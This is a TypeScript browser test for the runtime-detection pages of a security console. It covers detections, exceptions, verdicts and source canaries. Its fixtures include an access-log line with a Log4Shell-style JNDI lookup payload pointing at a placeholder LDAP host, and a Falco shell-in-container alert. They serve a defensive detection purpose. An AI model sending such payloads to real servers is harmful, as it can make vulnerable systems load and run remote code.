// The runtime on the real server: real events become detections that the pages explain; a verdict and an exception made there are what the store holds.
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { systemClock, toIso } from "../../src/kernel/clock.ts";
import type { TestApp } from "../open-test-app.ts";
import { breachesOf, openRealConsole } from "./real-console.ts";
import type { RealConsole } from "./real-console.ts";
import { browserNote, isBrowserMissing, seriousBreaches, settled } from "./console-under-test.ts";
import type { Browser } from "./console-under-test.ts";

const bytes = async function* (text: string): AsyncIterable<Uint8Array> { yield Buffer.from(text); };
const stampOf = (ms: number): string => { const [, day, month, year, time] = /^\w+, (\d+) (\w+) (\d+) ([\d:]+)/.exec(new Date(ms).toUTCString()) ?? []; return `${day}/${month}/${year}:${time} +0000`; };
const lookup = (ms: number): string => `203.0.113.77 - - [${stampOf(ms)}] "GET /search?q=\${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 512 "-" "curl/8.9.1"`;
const shell = (ms: number): string => JSON.stringify({ hostname: "node-eu-3", output: "A shell was spawned in a container", priority: "Notice", rule: "Terminal shell in container", source: "syscall", tags: ["mitre_execution", "T1059"], time: toIso(ms), output_fields: { "container.id": "3f1b7a2c9d10", "container.name": "shop", "proc.cmdline": "sh -c id", "proc.exepath": "/bin/sh", "proc.name": "sh", "proc.pname": "nginx", "user.name": "root", "evt.type": "execve" } });

describe.skipIf(isBrowserMissing)(`test/console/runtime-real${browserNote}`, () => {
  let real: RealConsole, test: TestApp, browser: Browser, url: string, webId = "";
  const open = async (path: string): Promise<Page> => { const page = await browser.open({ theme: "light", width: 1280 }); page.setDefaultTimeout(10_000); await page.goto(url + path); await settled(page); return page; };
  const push = (decoder: string, source: string, text: string) => test.app.runtime.receive(test.app.org, { decoder, source, chunks: bytes(text), host: "node-eu-3", settings: {}, isCanary: false });
  const detections = async () => (await test.app.runtime.detections(test.app.org, { state: undefined, kind: undefined, leastLevel: undefined, ruleId: undefined, workload: undefined, service: undefined, actor: undefined, decoder: undefined, tag: undefined, evidence: undefined, word: undefined, since: undefined, until: undefined }, { limit: 50, after: undefined })).items;

  beforeAll(async () => {
    real = await openRealConsole(async () => undefined, { at: systemClock.now() });
    ({ test, browser, url } = real);
  }, 180_000);
  afterAll(() => real?.close());

  it("says that nothing sends before anything does, and how to begin", async () => {
    const page = await open("/runtime");
    await page.getByText("Nothing sends events yet").waitFor();
    await page.getByText("aftwatch watch /var/log/nginx/access.log").waitFor();
    await page.goto(`${url}/runtime/sources`);
    await page.getByText("Nobody has sent an event yet.").waitFor();
    expect(await seriousBreaches(page)).toEqual([]);
    await page.close();
  }, 60_000);

  it("an event becomes a row by itself, and its page says why with the text that matched", async () => {
    const page = await open("/runtime");
    await page.getByText("Live", { exact: true }).waitFor();
    const now = test.clock.now();
    await push("access-log", "nginx", `${lookup(now - 60_000)}\n${lookup(now - 30_000)}\n`);
    await push("falco", "falco", shell(now - 20_000));
    await page.locator("[data-row-link]").first().waitFor();
    webId = (await detections()).find(({ decoder, kind }) => decoder === "access-log" && kind === "rule")?.detectionId ?? "";
    expect(webId).not.toBe("");
    await page.goto(`${url}/runtime/detections/${webId}`);
    await page.locator("mark").first().waitFor();
    await page.getByText("Nearest miss:").waitFor();
    await page.getByText("203.0.113.77").first().waitFor();
    await page.close();
  }, 60_000);

  it.each([{ theme: "light", width: 1280 }, { theme: "dark", width: 390, accessible: false }])("every page draws what the server answers: $theme, $width px", async (look) => {
    await test.app.runtime.testSources(test.app.org);
    const ruleId = (await detections()).find(({ detectionId }) => detectionId === webId)?.ruleId ?? "";
    const sensor = (await detections()).find(({ kind }) => kind === "sensor")?.detectionId ?? "";
    const [profile] = (await test.app.runtime.profiles.list(test.app.org, { workload: undefined, service: undefined, state: undefined }, { limit: 1, after: undefined })).items;
    // Everything once; where it is narrow, what is laid out in a way of its own.
    const narrow = ["/runtime", `/runtime/detections/${webId}`, `/runtime/rules/${ruleId}?tab=text`, "/runtime/sources", "/runtime/profiles", ...(profile ? [`/runtime/profiles/${profile.profileId}`] : [])];
    const paths = look.width < 640 ? narrow : ["/runtime", "/runtime?view=table", "/runtime?q=is%3Aall%20level%3Alow%20tag%3Aattack.t1190", `/runtime/detections/${webId}`, `/runtime/detections/${webId}?tab=components`, `/runtime/detections/${webId}?tab=record`, `/runtime/detections/${sensor}`, "/runtime/rules?q=kind%3Arule%20fired%3Atrue", "/runtime/rules?tab=rejects", `/runtime/rules/${ruleId}`, `/runtime/rules/${ruleId}?tab=text`, "/runtime/sources", "/runtime/exceptions", "/runtime/profiles", "/runtime/profiles?q=is%3Alearning%20workload%3Anode-eu-3", ...(profile ? [`/runtime/profiles/${profile.profileId}`, `/runtime/profiles/${profile.profileId}?tab=coverage`] : [])];
    expect(await breachesOf(real, look, paths)).toEqual([]);
  }, 240_000);

  it("an exception is drafted by the server, saved from the page, and shown with its reason", async () => {
    const page = await open(`/runtime/detections/${webId}`);
    await page.keyboard.press("w");
    const form = page.getByRole("dialog", { name: "Make an exception" });
    await form.getByText(/^It covers 1 of the 1 chosen detection/).waitFor();
    expect(await form.getByLabel("Filter (Sigma, YAML)", { exact: true }).inputValue()).toContain("filter:");
    await form.getByLabel(/^Reason/).fill("our own scanner");
    expect(await seriousBreaches(page)).toEqual([]);
    const forced = form.getByLabel(/^Why it may hide/);
    if (await forced.count() > 0) await forced.fill("its address is fixed");
    await form.getByRole("button", { name: /^Save/ }).click();
    await form.waitFor({ state: "detached" });
    const [kept] = await test.app.runtime.exceptions(test.app.org);
    expect(kept).toMatchObject({ reason: "our own scanner", createdBy: "session:browser" });
    await page.goto(`${url}/runtime/exceptions?id=${kept?.exceptionId ?? ""}`);
    await page.getByText("our own scanner").first().waitFor();
    expect(await seriousBreaches(page)).toEqual([]);
    await page.close();
  }, 60_000);

  it("a verdict from the list is what the store holds, and is taken back from the page", async () => {
    await push("falco", "falco", shell(test.clock.now() - 10_000));
    const page = await open("/runtime?q=is%3Aopen%20kind%3Asensor");
    await page.getByRole("checkbox", { name: /Terminal shell/ }).check();
    await page.getByRole("button", { name: "Verdict…" }).click();
    await page.getByRole("dialog").getByText("test", { exact: true }).click();
    await page.getByRole("button", { name: "Record the verdict" }).click();
    await page.getByText("Dismissed 1 detection").waitFor();
    const judged = (await detections()).find(({ kind }) => kind === "sensor");
    expect(judged).toMatchObject({ state: "dismissed", verdict: "test", judgedBy: "session:browser" });
    await page.goto(`${url}/runtime/detections/${judged?.detectionId ?? ""}`);
    await page.getByRole("button", { name: "Reopen" }).click();
    await page.getByText("Reopened 1 detection").waitFor();
    const again = (await detections()).find(({ detectionId }) => detectionId === judged?.detectionId);
    expect([again?.state, again?.verdict]).toEqual(["open", undefined]);
    await page.close();
  }, 60_000);

  it("sources are tested from the page, and the canary's time is shown", async () => {
    const page = await open("/runtime/sources");
    await page.getByRole("button", { name: "Test now" }).click();
    await page.getByText("Sent 2 canaries").waitFor();
    await page.locator("td[data-title='Canary']", { hasText: "seen" }).first().waitFor();
    await page.close();
  }, 60_000);
});
